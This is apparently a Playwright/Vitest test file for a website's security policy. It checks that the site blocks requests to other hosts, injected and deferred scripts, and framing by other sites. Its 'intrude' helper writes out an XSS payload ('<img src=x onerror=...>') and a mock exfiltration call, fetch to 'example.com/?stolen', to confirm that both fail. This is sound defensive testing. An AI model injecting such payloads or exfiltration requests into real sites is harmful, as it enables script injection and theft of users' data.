import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { openBrowserForFile, visit } from "../support/browser/browser.ts";
import { openSiteForFile } from "../support/site.ts";
import { surveyTime } from "../support/survey/survey-steps.ts";

const site = await openSiteForFile({ now: surveyTime });
// Fails each test in which a page requests another host, violates the policy, or logs an error.
const browser = await openBrowserForFile({ keepsPages: true });

test("a page's request to another host fails its test", async () => {
  const page = await browser.openPage();
  await page.goto("http://www.example.com/").catch(() => {});
  await expect(browser.closePages()).rejects.toMatchObject({
    actual: expect.arrayContaining(["request to http://www.example.com/"]),
  });
});

// Other tests visit the other kinds of page and send each form, in the same browser.
test("navigating between pages and back requests no other host and violates nothing in their policies", async () => {
  const page = await browser.openPage();
  await visit(page, site.url);
  for (const [name, path] of [
    ["Locations", "/locations"],
    ["Blog", "/blog"],
  ] as const) {
    await page.getByRole("link", { name, exact: true }).first().click();
    await page.waitForURL(site.url + path);
  }
  await page
    .getByRole("link", { name: /^Read More/ })
    .first()
    .click();
  await page.waitForURL(`${site.url}/blog/*`);
  await page.goBack();
  await page.waitForURL(`${site.url}/blog`);
  await page.waitForLoadState("networkidle");
});

test("an injected script doesn't run, and reaches nobody", async () => {
  const page = await browser.openPage({ expectedErrors: /./ });
  await visit(page, site.url);
  expect(await page.evaluate(intrude)).toEqual({
    ran: false,
    reached: false,
    madeHtml: false,
  });
});

const deferred = '<script type="deferred" src="/own.js">';

test.each([
  [
    "before the page and at its end",
    [
      ["<body", `${deferred}</script><body`],
      ["</main>", `</main>${deferred}</script>`],
    ],
  ],
  [
    "around its own",
    [['<script type="deferred">', `${deferred}<script type="deferred">`]],
  ],
] as const)(
  "a script from our own origin that is marked as deferred %s does not run",
  async (_where, places) => {
    const page = await browser.openPage({ expectedErrors: /./ });
    const asked: string[] = [];
    await page.route("**/own.js", (route) => {
      asked.push(route.request().url());
      return route.fulfill({
        contentType: "text/javascript",
        body: "document.title = 'taken over'",
      });
    });
    await page.route(`${site.url}/blog`, async (route) => {
      const response = await route.fetch();
      let body = await response.text();
      for (const [place, injected] of places) {
        expect(body).toContain(place);
        body = body.replace(place, injected);
      }
      await route.fulfill({ response, body });
    });
    await page.goto(`${site.url}/blog`);
    const wholeSheet = page.locator('link[rel="manifest"]');
    await page.getByRole("heading", { level: 1 }).click();
    await wholeSheet.waitFor({ state: "attached" });
    await page.waitForLoadState("networkidle");
    expect(asked).toEqual([]);
    expect(await page.title()).not.toBe("taken over");
  },
);

test("a page in another site's frame stays empty", async () => {
  const page = await browser.openPage({ expectedErrors: /./ });
  const frame = await page.goto("about:blank").then(() => framed(page));
  expect(frame).not.toContain("Casefront");
});

async function framed(page: Page) {
  await page.setContent(`<iframe src="${site.url}"></iframe>`);
  const handle = await page.locator("iframe").elementHandle();
  const frame = await handle?.contentFrame();
  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:|^http/);
  await frame?.waitForLoadState();
  return frame?.content();
}

/** What an injection bug might do. */
async function intrude() {
  const script = document.createElement("script");
  script.textContent = "document.title = 'taken over'";
  document.body.append(script);
  let madeHtml = true;
  try {
    document.body.insertAdjacentHTML(
      "beforeend",
      "<img src=x onerror='document.title = `taken over`'>",
    );
  } catch {
    madeHtml = false;
  }
  const reached = await fetch("http://www.example.com/?stolen").then(
    () => true,
    () => false,
  );
  return { ran: document.title === "taken over", reached, madeHtml };
}
